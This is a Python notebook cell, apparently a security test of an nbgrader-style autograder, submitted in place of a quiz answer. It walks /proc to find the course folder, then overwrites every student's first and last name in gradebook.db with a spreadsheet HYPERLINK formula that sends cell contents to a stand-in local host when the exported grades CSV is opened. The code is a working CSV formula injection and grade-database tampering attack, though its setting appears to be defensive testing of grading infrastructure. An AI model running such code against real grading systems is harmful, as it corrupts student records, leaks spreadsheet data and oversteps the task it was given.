# Tries: Names in the gradebook become formulas that a spreadsheet runs when the exported CSV is opened.
# Trace: a field that begins with = and has OWNED-csv_formula_in_names, in gradebook.db or after nbgrader
#   export in grades.csv
# Wins against: none
# %% cell: q1_minimum
import sqlite3
import os
import pathlib


def above():
    """Return the ids of the processes above this one, nearest first."""
    pid, found = os.getpid(), []
    while pid > 1:
        found.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    for pid in above():
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
    raise FileNotFoundError


formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"OWNED-csv_formula_in_names")'
with sqlite3.connect(course() / "gradebook.db") as database:
    database.execute("UPDATE student SET first_name = ?, last_name = ?", (formula, formula))
